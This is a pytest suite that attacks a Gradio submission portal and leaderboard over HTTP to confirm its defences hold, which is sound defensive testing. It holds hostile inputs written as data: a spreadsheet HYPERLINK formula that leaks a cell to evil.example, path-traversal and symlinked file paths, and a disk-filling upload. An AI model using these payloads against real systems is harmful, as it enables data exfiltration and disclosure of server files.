"""Attacks on the running apps over HTTP, as an attacker would make them: the suite (`python app.py`,
all three apps mounted on one port) started as a process, and the portal served alone.

- A FileData naming a server file, posted to the portal's events, is refused before anything reads
  it, with a reply that does not tell whether the path exists; nothing is copied or stored.
- An upload is checked, stored, and then removed with its folder: gradio's temp folder is left as
  it was (no empty temporary files either).
- The same bundle zipped again is found as a duplicate; one submitter's daily quota holds.
- The store file is private (0600); the leaderboard's CSV download makes formulas inert.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from shared.bundle.validate import validate_bundle
from shared.store.models import Attestation, Submitter
from shared.store.sqlite import SQLiteStore
from shared.web.csv_safe import FORMULA_STARTS
from submission_portal.app import build_demo
from submission_portal.config import PortalConfig
from testkit.factory import make_bundle_bytes
from tests.conftest import serve, suite_app

pytestmark = [pytest.mark.slow]

TOKEN = "attack-test-reviewer-token"
HOSTILE_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
QUOTA_PER_DAY = 2
TERMS = [True, True, True]


@dataclass
class Target:
    """A running portal: its base URL (…/submit or the root), its store file and gradio's temp folder."""

    portal: str
    root: str
    store: Path
    temp: Path


# --- talking to gradio like any client --------------------------------------------------------


def call(base: str, fn: str, data: list[Any], timeout: float = 120) -> tuple[str, Any]:
    """Run event `fn` through gradio's HTTP API: (final SSE event, its data)."""
    r = httpx.post(f"{base}/gradio_api/call/{fn}", json={"data": data}, timeout=timeout)
    r.raise_for_status()
    event_id = r.json()["event_id"]
    event, payload = "", None
    with httpx.stream("GET", f"{base}/gradio_api/call/{fn}/{event_id}", timeout=timeout) as stream:
        for line in stream.iter_lines():
            if line.startswith("event:"):
                event = line.removeprefix("event:").strip()
            elif line.startswith("data:") and event in ("complete", "error"):
                payload = json.loads(line.removeprefix("data:").strip())
                break
    return event, payload


def file_data(path: str | Path) -> dict[str, Any]:
    """A FileData as a client sends it: any path the client likes."""
    return {"path": str(path), "meta": {"_type": "gradio.FileData"}, "orig_name": Path(path).name}


def upload(base: str, name: str, data: bytes) -> str:
    """Upload through gradio's upload route; the server path it answers."""
    r = httpx.post(f"{base}/gradio_api/upload", files={"files": (name, data, "application/zip")}, timeout=60)
    r.raise_for_status()
    return str(r.json()[0])


def submit_args(fd: dict[str, Any], contact: str) -> list[Any]:
    """Inputs of the submit event: file, three terms, name, contact."""
    return [fd, *TERMS, "Test Submitter", contact]


def snapshot(folder: Path) -> set[str]:
    """Every file and folder under `folder`, relative."""
    return {str(p.relative_to(folder)) for p in folder.rglob("*")} if folder.exists() else set()


def stored(store: Path, contact: str | None = None) -> int:
    """Submissions in a store file (of one contact, if given)."""
    import sqlite3

    with sqlite3.connect(store) as db:
        if contact is None:
            return int(db.execute("SELECT COUNT(*) FROM submissions").fetchone()[0])
        return int(db.execute("SELECT COUNT(*) FROM submissions WHERE submitter_contact = ?", (contact,)).fetchone()[0])


def rezip(data: bytes) -> bytes:
    """The same members in another zip: reversed, compressed harder, with a comment."""
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        entries = [(i.filename, src.read(i)) for i in src.infolist()]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        dst.comment = b"same files, other zip"
        for name, body in reversed(entries):
            dst.writestr(name, body)
    return buf.getvalue()


# --- the two targets ----------------------------------------------------------------------------


def _seed_hostile_result(path: Path) -> None:
    """A published result whose model id is a spreadsheet formula, put into the store directly (the
    portal's intake may refuse such an id; the CSV export must be safe whatever the store holds)."""
    store = SQLiteStore(path)
    data = make_bundle_bytes(seed=950, model_id="acme/formula")
    record = validate_bundle(data).record
    assert record is not None
    sub, _ = store.add_submission(
        data,
        "h.zip",
        replace(record, model_id=HOSTILE_ID),
        Submitter("Seed", "seed@x.org"),
        Attestation(True, True, True),
    )
    store.review(sub.id, True, "", "test")
    store.publish_version("2026-02", "February 2026")


@pytest.fixture(scope="module")
def suite(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """`python app.py` in its own process, on a fresh store, with its own gradio temp folder."""
    tmp = tmp_path_factory.mktemp("attack-suite")
    store, temp, demo = tmp / "store.sqlite3", tmp / "gradio", tmp / "demo"
    demo.mkdir()
    _seed_hostile_result(store)
    env = {
        "GRADIO_TEMP_DIR": str(temp),
        "HF_HUB_OFFLINE": "1",
        "AIENERGY_STORE": str(store),
        "AIENERGY_ADMIN_TOKEN": TOKEN,
        "AIENERGY_DEMO_BUNDLES": str(demo),
        "AIENERGY_QUOTA_SUBMISSIONS_PER_DAY": str(QUOTA_PER_DAY),
    }
    with suite_app(tmp / "app.log", env, drop=("AIENERGY_", "GRADIO_")) as url:
        yield Target(portal=url + "/submit", root=url, store=store, temp=temp)


@pytest.fixture(scope="module")
def alone(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The portal served alone (launched by gradio itself), in this process."""
    from gradio.utils import get_upload_folder

    tmp = tmp_path_factory.mktemp("attack-alone")
    url, demo = serve(build_demo(SQLiteStore(tmp / "store.sqlite3"), PortalConfig(admin_token=TOKEN)))
    try:
        yield Target(portal=url, root=url, store=tmp / "store.sqlite3", temp=Path(get_upload_folder()))
    finally:
        demo.close()


@pytest.fixture(params=["suite", "alone"])
def target(request: pytest.FixtureRequest) -> Target:
    """Each attack runs against the suite and against the portal alone."""
    return request.getfixturevalue(request.param)


# --- hole 1: server files named as inputs --------------------------------------------------------


def _args(fn: str, fd: dict[str, Any]) -> list[Any]:
    by_event: dict[str, list[Any]] = {
        "check_upload": [fd],
        "gate": [fd, *TERMS, "ACCEPTED", "Mallory", "mallory@example.org", ""],
        "submit_clicked": submit_args(fd, "mallory@example.org"),
    }
    return by_event[fn]


def _neutral(payload: Any, path: Path) -> str:
    """The reply with the path named in it replaced, to compare replies for different paths."""
    return json.dumps(payload).replace(str(path), "<path>")


@pytest.mark.parametrize("fn", ["check_upload", "gate", "submit_clicked"])
def test_server_file_is_never_read(target: Target, fn: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret_bundle.zip"
    secret.write_bytes(make_bundle_bytes(seed=960, model_id="acme/server-side-secret"))
    missing = tmp_path / "missing_bundle.zip"
    before = stored(target.store)

    event, reply = call(target.portal, fn, _args(fn, file_data(secret)))
    event_missing, reply_missing = call(target.portal, fn, _args(fn, file_data(missing)))

    assert event == "error", reply  # refused before any handler ran
    assert "ACCEPTED" not in json.dumps(reply) and "Submitted" not in json.dumps(reply)
    # The same answer whether the file exists or not: nothing to learn about the server's files.
    assert (event, _neutral(reply, secret)) == (event_missing, _neutral(reply_missing, missing))
    assert stored(target.store) == before
    # Not even copied into gradio's cache.
    assert not [p for p in snapshot(target.temp) if "secret_bundle" in p]


def test_traversal_and_planted_links_are_refused(suite: Target, tmp_path: Path) -> None:
    secret = tmp_path / "secret_bundle.zip"
    secret.write_bytes(make_bundle_bytes(seed=961, model_id="acme/server-side-secret"))
    suite.temp.mkdir(parents=True, exist_ok=True)
    link_dir = suite.temp / "planted"
    link_dir.mkdir(exist_ok=True)
    link = link_dir / "link.zip"
    link.symlink_to(secret)
    try:
        for path in (f"{suite.temp}/../../{secret.relative_to('/')}", str(link)):
            event, reply = call(suite.portal, "check_upload", [file_data(path)])
            assert event == "error" and "ACCEPTED" not in json.dumps(reply), (path, reply)
    finally:
        link.unlink()
        link_dir.rmdir()
    assert stored(suite.store) == 1  # only the seeded result


# --- hole 6: an upload leaves nothing behind ---------------------------------------------------------


def test_upload_is_removed_after_check_and_submit(suite: Target) -> None:
    call(suite.portal, "check_upload", [None])  # let the app create what it keeps anyway
    before = snapshot(suite.temp)
    path = upload(suite.portal, "bundle.zip", make_bundle_bytes(seed=970, model_id="acme/cleanup"))
    fd = file_data(path)

    event, reply = call(suite.portal, "check_upload", [fd])
    assert event == "complete" and reply[0].startswith("ACCEPTED"), reply
    for _ in range(3):  # the page re-runs the gate on every tick of a box
        assert call(suite.portal, "gate", [fd, *TERMS, "ACCEPTED", "A", "a@example.org", ""])[0] == "complete"
    after_check = snapshot(suite.temp) - before
    # Only the upload and its folder: no empty temporary file per event.
    assert after_check == {str(Path(path).parent.relative_to(suite.temp)), str(Path(path).relative_to(suite.temp))}

    event, reply = call(suite.portal, "submit_clicked", submit_args(fd, "cleanup@example.org"))
    assert event == "complete" and "Submitted for review" in reply[0], reply
    assert snapshot(suite.temp) == before
    assert not [p for p in suite.temp.rglob("*") if p.is_file() and p.stat().st_size == 0]


# --- hole 3: the same files zipped again ------------------------------------------------------------


def test_rezipped_bundle_is_found_as_duplicate(suite: Target) -> None:
    contact = "rezip@example.org"
    data = make_bundle_bytes(seed=980, model_id="acme/rezipped")
    first = call(suite.portal, "submit_clicked", submit_args(file_data(upload(suite.portal, "a.zip", data)), contact))
    assert first[0] == "complete" and "Submitted for review" in first[1][0], first
    sid = first[1][2]
    again = call(
        suite.portal, "submit_clicked", submit_args(file_data(upload(suite.portal, "b.zip", rezip(data))), contact)
    )
    assert again[0] == "complete", again
    assert f"already submitted as {sid}" in again[1][0] and again[1][2] == sid
    assert stored(suite.store, contact) == 1


# --- hole 4: one submitter's daily quota ------------------------------------------------------------


def test_daily_quota_of_one_submitter(suite: Target) -> None:
    contact = "quota@example.org"
    for i in range(QUOTA_PER_DAY):
        fd = file_data(upload(suite.portal, f"q{i}.zip", make_bundle_bytes(seed=990 + i, model_id=f"acme/quota-{i}")))
        event, reply = call(suite.portal, "submit_clicked", submit_args(fd, contact))
        assert event == "complete" and "Submitted for review" in reply[0], reply
    fd = file_data(upload(suite.portal, "q.zip", make_bundle_bytes(seed=999, model_id="acme/quota-over")))
    event, reply = call(suite.portal, "submit_clicked", submit_args(fd, contact.upper()))
    assert event == "complete" and reply[0].startswith("### Not submitted"), reply
    # The reason is in the panel itself, and in the details.
    assert "Daily limit reached" in reply[0] and "Daily limit reached" in reply[1] and "Nothing was stored" in reply[1]
    assert stored(suite.store, contact) == QUOTA_PER_DAY
    # Someone else is not held back by it.
    fd = file_data(upload(suite.portal, "o.zip", make_bundle_bytes(seed=998, model_id="acme/quota-other")))
    other = call(suite.portal, "submit_clicked", submit_args(fd, "other@example.org"))
    assert "Submitted for review" in other[1][0], other


# --- hole 5: the store file ----------------------------------------------------------------------------


def test_store_file_is_private(suite: Target) -> None:
    assert stat.S_IMODE(suite.store.stat().st_mode) == 0o600
    for suffix in ("-wal", "-shm"):
        side = Path(f"{suite.store}{suffix}")
        if side.exists():
            assert stat.S_IMODE(side.stat().st_mode) & 0o077 == 0


# --- hole 2: the leaderboard's CSV download --------------------------------------------------------------


@pytest.mark.browser
def test_csv_download_neutralises_formulas(suite: Target, page: Any, tmp_path: Path) -> None:
    page.goto(suite.root + "/leaderboard/")
    page.locator("#lb-csv").get_by_text("Download this view (CSV)").wait_for(timeout=60_000)
    page.wait_for_function(
        "() => { const b = document.querySelector('#lb-csv'); const el = b && (b.matches('button') ? b : "
        "b.querySelector('button')); return el && !el.disabled; }",
        timeout=60_000,
    )
    with page.expect_download(timeout=60_000) as info:
        page.locator("#lb-csv").click()
    path = tmp_path / "view.csv"
    info.value.save_as(path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    assert body, "the view holds the seeded result"
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_ID in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    energy = body[0][header.index("gpu_energy_wh_per_1k")]
    assert float(energy) > 0  # numbers stay numbers


# --- hole 7: the reviewer sees the stakes -----------------------------------------------------------------


def test_reviewer_detail_shows_stakes_and_plausibility(suite: Target) -> None:
    data = make_bundle_bytes(seed=1000, model_id="acme/under-review")
    fd = file_data(upload(suite.portal, "r.zip", data))
    event, reply = call(suite.portal, "submit_clicked", submit_args(fd, "review@example.org"))
    assert event == "complete" and "Submitted for review" in reply[0], reply
    event, detail = call(suite.portal, "detail", [TOKEN, reply[2]])
    assert event == "complete", detail
    text = detail[0]
    assert "Stakes: if published, this result gets" in text and "text_generation, class A" in text
    assert "Published results in this group whose stars would change" in text or "would change stars" in text
    assert "Plausibility (mean GPU power per measured window): idle 70.0 W, power limit 700 W." in text
    # Without the reviewer token: nothing.
    assert call(suite.portal, "detail", ["wrong", reply[2]])[1][0] == "Reviewer access required."


# --- the apps that take no upload refuse any --------------------------------------------------------------


@pytest.mark.parametrize("app_path", ["/leaderboard", "/label"])
def test_apps_without_uploads_refuse_files(suite: Target, app_path: str) -> None:
    before = snapshot(suite.temp)
    r = httpx.post(
        f"{suite.root}{app_path}/gradio_api/upload",
        files={"files": ("filler.bin", os.urandom(2_000_000), "application/octet-stream")},
        timeout=60,
    )
    assert r.status_code == 413, r.text  # else anyone could fill the server's disk through them
    assert snapshot(suite.temp) - before == set()  # nothing written, not even a partial temporary file
